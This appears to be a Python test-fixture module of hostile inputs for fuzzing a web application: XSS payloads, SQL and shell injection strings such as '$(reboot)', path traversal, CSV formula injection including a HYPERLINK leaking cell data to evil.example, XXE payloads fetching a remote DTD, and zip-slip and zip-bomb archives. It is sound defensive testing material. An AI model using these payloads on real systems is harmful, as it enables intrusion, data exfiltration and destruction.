"""Hostile strings and files of our own writing; they stand in for, and beside, those of others."""

import io
import zipfile

_ACT = "x()"
XSS = [
    f"<script>{_ACT}</script>",
    f"<ScRiPt src=//evil.example/a.js></sCrIpT>{_ACT}",
    f"<img src=x onerror={_ACT}>",
    f"<img src=x onerror\n=\n'{_ACT}'>",
    f"<svg/onload={_ACT}>",
    f"<svg><animate onbegin={_ACT} attributeName=x dur=1s>",
    f"<svg><script>{_ACT}</script></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={_ACT}>",
    f"<body onload={_ACT}>",
    f"<iframe src=javascript:{_ACT}></iframe>",
    f"<iframe srcdoc='<script>{_ACT}</script>'></iframe>",
    f"<a href=javascript:{_ACT}>read</a>",
    f"<a href='jAvAsCrIpT&colon;{_ACT}'>read</a>",
    f"<a href='java\tscript:{_ACT}'>read</a>",
    f"<a href='\x01javascript:{_ACT}'>read</a>",
    f"<a href=data:text/html,<script>{_ACT}</script>>read</a>",
    f"<a href=vbscript:{_ACT}>read</a>",
    f"<form action=javascript:{_ACT}><button>go</button></form>",
    f"<button formaction=javascript:{_ACT}>go</button>",
    f"<input autofocus onfocus={_ACT}>",
    f"<details open ontoggle={_ACT}>more</details>",
    f"<video><source onerror={_ACT}></video>",
    f"<style>@import 'javascript:{_ACT}';</style>",
    f"<div style='background:url(javascript:{_ACT})'>bad</div>",
    f"<base href=javascript:{_ACT}//>",
    f"<meta http-equiv=refresh content='0;url=javascript:{_ACT}'>",
    f"<object data=javascript:{_ACT}></object>",
    f"<embed src=javascript:{_ACT}>",
    f"<template><script>{_ACT}</script></template>",
    f"<noscript><p title='</noscript><img src=x onerror={_ACT}>'>",
    f"<title></title><img src=x onerror={_ACT}>",
    f"<textarea></textarea><script>{_ACT}</script>",
    f"<!--><img src=x onerror={_ACT}>-->",
    f"<![CDATA[<script>{_ACT}</script>]]>",
    f'"><script>{_ACT}</script>',
    f"' onmouseover={_ACT} x='",
    f"</p></div></article><script>{_ACT}</script>",
    "<div hx-get=/logout hx-trigger=load>late</div>",
    "<div data-hx-on:load=x()>late</div>",
    "{{ constructor.constructor('x()')() }}",
    "{% load static %}{{ settings.SECRET_KEY }}",
    "${x()} #{x()} <%= x() %>",
    "&lt;script&gt;x()&lt;/script&gt;",
    "%3Cscript%3Ex()%3C/script%3E",
    "\uff1cscript\uff1ex()\uff1c/script\uff1e",
    "[read](javascript:x())",
    "![x](x onerror=x())",
    "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>x()</x:script>",
]
STRINGS = [
    *("undefined", "null", "None", "NaN", "true", "-0", "1e999", "0x10", "9" * 400, "\ufeff"),
    *("", " ", "\t", "\u00a0", "\u200b", "\u202e desrever", "\u2028", "\u0085", "a\u0300" * 50),
    *("Ω≈ç√∫˜µ≤≥÷", "田中さんにあげて下さい", "مرحبا بالعالم", "שלום", "👩🏽‍🚀🏳️‍🌈", "\U0010ffff"),
    *("' OR 1=1 --", "'; DROP TABLE newsroom_article; --", "$(reboot)", "`reboot`", "; reboot"),
    *("../../../../etc/passwd", "..\\..\\windows", "con", "a/b\\c", "%00", "\\x00", "%s%n%d"),
    *("{0.__class__}", "__proto__", "constructor", "file:///etc/hostname", "//evil.example"),
    "x" * 5_000,
    "word " * 2_000,
    "(" * 500 + ")" * 500,
    "“" * 300,
]
CSV = [
    *("=1+2", "+1+2", "-1+2", "@SUM(1)", "\t=1+2", " =1+2", "=", "+", "–", "@"),
    '=HYPERLINK("//evil.example?"&A1,"read")',
    "=cmd|' /C x'!A0",
    '"=1+2',
    "a\n=1+2",
    "\uff1d1+2",
]
XXE = [
    '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY a SYSTEM "file:///etc/hostname">]><r>&a;</r>',
    '<!DOCTYPE r [<!ENTITY % p SYSTEM "http://evil.example/a.dtd"> %p;]><r/>',
    '<!DOCTYPE r [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]><r>&b;&b;&b;</r>',
    '<r xmlns:i="http://www.w3.org/2001/XInclude"><i:include href="/etc/hostname"/></r>',
]
_DEEP = b"[" * 50_000
JSON = {
    "deep.json": _DEEP,
    "deep_objects.json": b'{"a":' * 20_000,
    "huge_number.json": b'[{"text": "a", "priority": ' + b"9" * 5_000 + b"}]",
    "lone_surrogate.json": rb'[{"text": "\ud83d"}]',
    "same_key.json": b'[{"text": "a", "text": "b"}]',
    "not_utf8.json": b'[{"text": "\xff\xfe"}]',
    "cut.json": b'[{"text": "a',
    "nan.json": b"[NaN, Infinity, -1e999]",
    "nul.json": rb'[{"text": "a\u0000b"}]',
}
ENCODINGS = {
    "big5.txt": "港口明天開放。".encode("big5"),
    "shift_jis.txt": "港は明日開きます。".encode("shift_jis"),
    "iso2022.txt": "港は明日開きます。".encode("iso2022_jp"),
    "utf16.txt": "The harbour opens.".encode("utf-16"),
    "utf32.txt": "The harbour opens.".encode("utf-32"),
    "cp1252.txt": "“The harbour – opens.”".encode("cp1252"),
    "mixed.txt": "“Ä”".encode() + "Ö".encode("cp1252"),
    "bytes.txt": bytes(range(256)) * 8,
}
FEEDS = {
    "feed.xml": b"<?xml version='1.0'?><rss><channel><item><title>A</title></item></channel></rss>",
    "cut_feed.xml": b"<?xml version='1.0' encoding='utf-16'?><feed><entry><title>A</ti",
    "bomb_feed.xml": XXE[2].encode(),
}


def _zipped(*names: str, text: bytes = b"The harbour opens on Monday.") -> bytes:
    written = io.BytesIO()
    with zipfile.ZipFile(written, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, text)
    return written.getvalue()


UPLOADS = {
    "climbing.zip": _zipped("../../a.txt", "/etc/b.txt", "..\\c.txt"),
    "named_alike.zip": _zipped("a.txt", "A.TXT", "a.txt/"),
    "within.zip": _zipped("b.zip", text=_zipped("a.txt")),
    "heavy.zip": _zipped("a.txt", text=b"0" * 5_000_000),
    "cut.zip": _zipped("a.txt")[:-20],
    "page.html": f"<html><body>{''.join(XSS)}</body></html>".encode(),
    "deep.html": b"<div>" * 20_000,
    "picture.png": b"\x89PNG\r\n\x1a\n" + bytes(100),
    "program.txt": b"MZ" + bytes(200),
}
STRINGS_BY_KIND = {"xss": XSS, "strings": STRINGS, "csv": CSV, "xxe": XXE}
FILES_BY_KIND = {"json": JSON, "encodings": ENCODINGS, "feeds": FEEDS, "uploads": UPLOADS}
